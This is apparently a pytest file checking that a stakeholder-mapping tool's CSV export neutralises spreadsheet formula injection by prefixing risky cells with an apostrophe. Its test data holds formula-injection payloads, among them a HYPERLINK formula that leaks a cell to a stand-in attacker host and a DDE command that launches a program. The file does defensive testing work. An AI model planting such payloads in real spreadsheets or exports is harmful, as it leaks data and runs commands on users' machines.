"""Files from outside and files we leave behind (issue 14, items 6–10): exports that a spreadsheet would run,
tables built to exhaust the reader, data readable by other users, erased data lingering in stray files, and
XML that expands, fetches or runs."""

from __future__ import annotations

import csv
import io

import pytest

from ssd_starter.export.graph import graph_bytes
from ssd_starter.store.districts import create_district
from ssd_starter.store.stakeholders import (
    create_relation,
    create_stakeholder,
    list_relations,
    list_stakeholders,
)


@pytest.fixture
def district(store):
    insert = create_district("Hostile")
    store.apply(insert)
    return insert.values["id"]


def add(store, district, name, **fields):
    insert = create_stakeholder(district, {"name": name, **fields})
    store.apply(insert)
    return insert.values["id"]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# -- 6. exported CSV must not run as formulas -------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_cells_that_a_spreadsheet_would_run(store, district):
    first = add(store, district, FORMULAS[0], notes=FORMULAS[1], municipality=FORMULAS[2], influence=4,
                contact_person=FORMULAS[3], phone="+39 0461 000 111", consent=True)
    second = add(store, district, "Coop -Beta", notes="ok", consent=True)
    store.apply(create_relation(district, {"source_id": first, "target_id": second, "kind": "supplies",
                                           "notes": "=1+1"}))
    files = graph_bytes("csv", list_stakeholders(store, district), list_relations(store, district),
                        include_personal=True)
    actors = {row["id"]: row for row in csv_rows(files["-actors.csv"])}
    assert actors[first]["name"] == "'" + FORMULAS[0]
    assert actors[first]["notes"] == "'" + FORMULAS[1]
    assert actors[first]["municipality"] == "'" + FORMULAS[2]
    assert actors[first]["contact_person"] == "'" + FORMULAS[3]
    assert actors[first]["phone"] == "'+39 0461 000 111"
    assert actors[first]["influence"] == "4"  # a number stays a number
    assert actors[second]["name"] == "Coop -Beta"  # only the first character matters
    [relation] = csv_rows(files["-relations.csv"])
    assert relation["notes"] == "'=1+1" and relation["strength"].lstrip("-").isdigit()
    for data in files.values():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


def test_csv_export_neutralises_leading_tab_and_carriage_return():
    """The store trims what is typed, but a row can arrive untrimmed (a bundle, an older version)."""
    actor = {"id": "a1", "name": FORMULAS[4], "notes": FORMULAS[5], "category": "other", "roles": [],
             "influence": -3}
    files = graph_bytes("csv", [actor], [])
    [row] = csv_rows(files["-actors.csv"])
    assert row["name"] == "'" + FORMULAS[4] and row["notes"] == "'" + FORMULAS[5] and row["influence"] == "-3"


def test_safe_cell_leaves_numbers_and_plain_text_alone():
    from ssd_starter.export import spreadsheet_safe

    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("Coop Alfa") == "Coop Alfa" and spreadsheet_safe("") == ""
    assert spreadsheet_safe("-5") == "'-5"  # text that looks like a number is still text a formula may hide in
